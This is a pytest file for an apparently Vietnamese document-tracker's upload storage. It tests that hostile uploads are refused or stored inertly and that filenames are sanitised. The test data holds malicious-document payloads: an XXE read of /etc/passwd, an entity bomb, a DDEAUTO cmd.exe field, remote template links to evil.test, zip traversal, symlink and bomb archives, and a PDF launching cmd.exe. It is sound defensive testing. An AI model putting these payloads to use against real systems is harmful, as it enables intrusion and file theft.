"""What people and attackers bring: refused with a sentence that says what would be right, or stored where it can do no harm."""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from werkzeug.http import parse_options_header

from tests.evidence import samples
from tests.evidence.samples import SHEET, WORD, office
from tracker.files import current
from tracker.files.contents import ENTRIES_LIMIT, UNPACKED_LIMIT
from tracker.files.models import StoredFile
from tracker.files.rules import FILE_TYPES, NAME_LIMIT, tidy_name
from tracker.files.storage import Storage
from tracker.kernel.errors import Refused
from tracker.web.headers import FILE_POLICY


@pytest.fixture
def store(tmp_path: Path) -> Storage:
    return Storage((tmp_path / "evidence").as_uri(), tmp_path / "scratch")


def left(tmp_path: Path) -> list[str]:
    return sorted(str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*") if path.is_file())


def zipped(*entries: tuple[str | zipfile.ZipInfo, bytes], kind: str = WORD, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word (or Excel) file with entries of our own."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>')
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str) -> tuple[str, bytes]:
    """A pointer out of the document."""
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    body = f'<Relationships><Relationship Id="rId1" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return "word/_rels/settings.xml.rels", body.encode()


def symlink() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = 0o120777 << 16
    return entry


def under_password() -> bytes:
    """A zip whose second entry says that it is encrypted."""
    whole = bytearray(zipped(("word/document.xml", b"<w/>")))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.rindex(mark) + offset] |= 1
    return bytes(whole)


def lying_size() -> bytes:
    """Unpacks to a megabyte and declares 100 bytes."""
    whole = bytearray(zipped(("word/document.xml", b"\x00" * 1_000_000)))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = whole.rindex(mark) + offset
        whole[at : at + 4] = struct.pack("<I", 100)
    return bytes(whole)


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{WORD}"/></Types>')
        for text in (b"<w>one</w>", b"<w>two</w>"):
            archive.writestr("word/document.xml", text)
    return out.getvalue()


def png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))


def jpg(width: int, height: int) -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xff\xc2\x00\x11\x08"
        + struct.pack(">HH", height, width)
        + b"\x03" * 12
    )


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'
XXE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
DDE_FIELD = b'<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:p>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600

#: name, content, words of the sentence
REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    ("rong.pdf", lambda: b"", "0 byte"),
    ("a.exe", lambda: samples.EXE, "Không nhận tệp “.exe”"),
    ("a.pdf.exe", lambda: samples.PDF, "“.exe”"),
    ("a.pdf", lambda: samples.EXE, "không phải PDF"),
    ("a.pdf", lambda: samples.HTML, "không phải PDF"),
    ("html truoc.pdf", lambda: samples.HTML + samples.PDF, "không phải PDF"),
    ("a.pdf", lambda: samples.PNG, "không phải PDF"),
    ("a.png", lambda: samples.JPG, "không phải PNG"),
    ("a.docx", lambda: samples.HTML, "không phải DOCX"),
    ("a.html", lambda: samples.HTML, "xuất tệp ra PDF"),
    ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "“.svg”"),
    ("svg.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "không phải PNG"),
    ("khong-duoi", lambda: samples.PDF, "khong-duoi"),
    ("a.docm", lambda: office(samples.MACROS), "DOCX không macro"),
    ("a.docx", lambda: office(samples.MACROS), "có macro"),
    ("a.docx", lambda: zipped(("word/vbaProject.bin", b"x")), "có macro"),
    ("a.docx", lambda: office(WORD, extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "có macro"),
    ("a.doc", lambda: OLE, "lưu lại thành DOCX"),
    ("mat khau.docx", lambda: OLE, "bỏ mật khẩu"),
    ("a.docx", under_password, "có mật khẩu"),
    ("a.zip", lambda: office(WORD), "giải nén"),
    ("a.docx", lambda: office(SHEET), "không phải DOCX"),
    ("a.xlsx", lambda: office(WORD), "không phải XLSX"),
    ("a.docx", lambda: b"PK\x03\x04 not a zip", "không phải DOCX"),
    ("a.docx", samples.damaged, "không phải DOCX"),
    ("a.docx", twice, "không phải DOCX"),
    ("a.docx", lambda: zipped((symlink(), b"/etc/passwd")), "không phải DOCX"),
    ("a.docx", lambda: zipped(("/etc/cron.d/x", b"x")), "không phải DOCX"),
    ("a.docx", lambda: zipped(("word/../../x", b"x")), "không phải DOCX"),
    ("a.docx", lambda: zipped(("C:\\x", b"x")), "không phải DOCX"),
    ("a.docx", lambda: zipped(("word/document.xml", b"x"), packing=zipfile.ZIP_LZMA), "không phải DOCX"),
    ("a.docx", lambda: zipped(("word/document.xml", XXE)), "DOCTYPE"),
    ("utf16.docx", lambda: zipped(("word/document.xml", XXE.decode().encode("utf-16"))), "DOCTYPE"),
    ("laughs.docx", lambda: zipped(("word/document.xml", LAUGHS)), "DOCTYPE"),
    ("a.docx", lambda: zipped(relation("attachedTemplate", "https://evil.test/t.dotm")), "mẫu"),
    ("unc.docx", lambda: zipped(relation("attachedTemplate", "\\\\evil.test\\t.dotm")), "mẫu"),
    ("hidden.docx", lambda: zipped(relation("attachedTemplate", "&#104;ttps://evil.test/t.dotm")), "mẫu"),
    ("far.docx", lambda: zipped(relation("attachedTemplate", "file://evil.test/t.dotm")), "mẫu"),
    ("a.docx", lambda: zipped(relation("oleObject", "mhtml:https://evil.test/x!x")), "mẫu"),
    ("a.docx", lambda: zipped(("word/document.xml", DDE_FIELD)), "DDE"),
    (
        "a.xlsx",
        lambda: zipped(("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'), kind=SHEET),
        "DDE",
    ),
    ("many.docx", lambda: office(WORD, entries=ENTRIES_LIMIT, size=0), "bung ra"),
    ("ratio.docx", lambda: zipped(("word/document.xml", b"\x00" * 3_000_000)), "bung ra"),
    ("zeros.xlsx", lambda: office(SHEET, entries=1, size=UNPACKED_LIMIT + 1), "bung ra"),
    ("lies.docx", lying_size, "không phải DOCX"),
    ("50k.png", lambda: png(50_000, 50_000), "thu nhỏ"),
    ("50k.jpg", lambda: jpg(50_000, 50_000), "thu nhỏ"),
]


@pytest.mark.parametrize(("name", "content", "words"), REFUSED, ids=[f"{i}-{name}" for i, (name, _content, _words) in enumerate(REFUSED)])
def test_refused_with_a_sentence_that_says_what_would_be_right(
    store: Storage, tmp_path: Path, name: str, content: Callable[[], bytes], words: str
) -> None:
    with pytest.raises(Refused, match=words) as refusal:
        store.put(7, io.BytesIO(content()), name)
    assert refusal.value.field == "file"
    assert any(right in refusal.value.message for right in ("chọn lại", "kiểm tra"))
    assert left(tmp_path) == []


ACTIVE = b"%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</WC<</S/Launch/F(cmd.exe)>>>>>>endobj\n%%EOF"
KEPT: list[tuple[str, Callable[[], bytes]]] = [
    ("a.pdf", lambda: samples.PDF),
    ("A.PDF", lambda: samples.PDF),
    ("a.png", lambda: samples.PNG),
    ("camera.png", lambda: png(12_000, 9_000)),
    ("a.jpg", lambda: samples.JPG),
    ("a.jpeg", lambda: jpg(4000, 3000)),
    ("a.docx", lambda: office(WORD)),
    ("a.xlsx", lambda: office(SHEET)),
    ("own template.docx", lambda: zipped(relation("attachedTemplate", "file:///C:\\Users\\van-thu\\Templates\\CongVan.dotm"))),
    ("link.docx", lambda: zipped(relation("hyperlink", "https://bacninh.gov.vn"))),
    ("javascript, launch.pdf", lambda: ACTIVE),
    ("polyglot.pdf", lambda: samples.PDF + samples.HTML),
]


@pytest.mark.parametrize(("name", "content"), KEPT, ids=[name for name, _content in KEPT])
def test_kept_and_harmless(store: Storage, tmp_path: Path, bare_app: Flask, name: str, content: Callable[[], bytes]) -> None:
    """What a PDF may want to do it can do only on the reader's own machine, in the reader's own program: here it is bytes to be saved."""
    stored = store.put(7, io.BytesIO(content()), name)
    assert stored.media_type == FILE_TYPES["." + name.rsplit(".", 1)[1].lower()]
    assert left(tmp_path)[0] == f"evidence/7/{stored.sha256}"
    given = answered(bare_app, store, stored.sha256, stored.size, stored.media_type, name)
    assert given.headers["Content-Disposition"].startswith("inline" if stored.media_type.startswith("image/") else "attachment")
    assert given.headers["Content-Security-Policy"] == FILE_POLICY
    assert given.headers["Content-Type"] == stored.media_type


def answered(app: Flask, store: Storage, sha256: str, size: int, kind: str, name: str, **asked: str):
    """What the browser gets, of a store other than the application's own."""
    app.config["STORAGE_URL"] = Path(store.root).as_uri()
    with app.test_request_context("/", headers=asked):
        given = current.answer(StoredFile(authority_id=7, sha256=sha256, size=size, media_type=kind), name)
        given.direct_passthrough = False
        given.data  # noqa: B018 - read while the file is open
        return given


def test_a_range_and_what_has_not_changed_are_answered_as_asked(store: Storage, bare_app: Flask) -> None:
    sha256 = store.put(7, io.BytesIO(samples.PDF), "a.pdf").sha256
    about = (bare_app, store, sha256, len(samples.PDF), "application/pdf", "a.pdf")
    part = answered(*about, Range="bytes=5-9")
    assert (part.status_code, part.data) == (206, samples.PDF[5:10])
    assert part.headers["Content-Range"] == f"bytes 5-9/{len(samples.PDF)}"
    assert answered(*about, Range="bytes=-3").data == samples.PDF[-3:]
    assert answered(*about, **{"If-None-Match": f'"{sha256}"'}).status_code == 304
    whole = answered(*about)
    assert (whole.status_code, whole.content_length, whole.headers["Accept-Ranges"]) == (200, len(samples.PDF), "bytes")


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("Quyết định số 01.pdf", "Quyết định số 01.pdf"),
        (unicodedata.normalize("NFD", "Đề án chuyển đổi số huyện.docx"), "Đề án chuyển đổi số huyện.docx"),
        ("C:\\Users\\a\\Báo cáo.pdf", "Báo cáo.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\x.pdf", "x.pdf"),
        ("%2e%2e/x.pdf", "x.pdf"),
        ("a\r\nb\x00.pdf", "ab.pdf"),
        ("a\u2028b.pdf", "ab.pdf"),
        ("bao\u202egpj.pdf", "baogpj.pdf"),  # a direction character that shows «fdp.jpg»
        ('a"; x="b.pdf', 'a"; x="b.pdf'),
        ("=cmd.xlsx", "=cmd.xlsx"),
        ("CON", "CON"),
        ("....", "tep"),
        (" .. ", "tep"),
        (None, "tep"),
        ("b" * 300 + ".pdf", "b" * 196 + ".pdf"),
        ("a." + "b" * 300, "a." + "b" * 198),
    ],
)
def test_a_file_keeps_the_name_its_people_know(given_name: str | None, kept: str) -> None:
    assert tidy_name(given_name) == kept


@given(st.one_of(st.text(max_size=400), st.tuples(st.text(max_size=220), st.text(max_size=30)).map(".".join)))
def test_a_name_never_holds_a_folder_or_what_cannot_be_seen(name: str) -> None:
    kept = tidy_name(name)
    assert kept
    assert len(kept) <= NAME_LIMIT
    assert not set(kept) & set("/\\\0\r\n\u202e\u2028")
    assert tidy_name(kept) == kept


VIETNAMESE = st.text(st.sampled_from("aăâbcdđeêghiklmnoôơpqrstuưvxyĐÁàảãạấệớữỳ 0123456789-_.,()\"';=%&+"), min_size=1, max_size=150)


def test_a_thousand_names_come_back_as_they_went(store: Storage, bare_app: Flask) -> None:
    stored = store.put(7, io.BytesIO(samples.PDF), "a.pdf")

    @settings(max_examples=1000, database=None)
    @given(st.one_of(VIETNAMESE, st.text(st.characters(exclude_characters="/\\"), max_size=100)))
    def round_trip(text: str) -> None:
        name = tidy_name(unicodedata.normalize("NFD", f"a{text}.pdf"))
        header = answered(bare_app, store, stored.sha256, stored.size, stored.media_type, name).headers["Content-Disposition"]
        kind, told = parse_options_header(header)
        assert (kind, told["filename"]) == ("attachment", name)
        assert unicodedata.is_normalized("NFC", name)
        assert ("đ" in text) <= ("đ" in unquote(header.split("''")[-1]) or len(name) == NAME_LIMIT)

    round_trip()
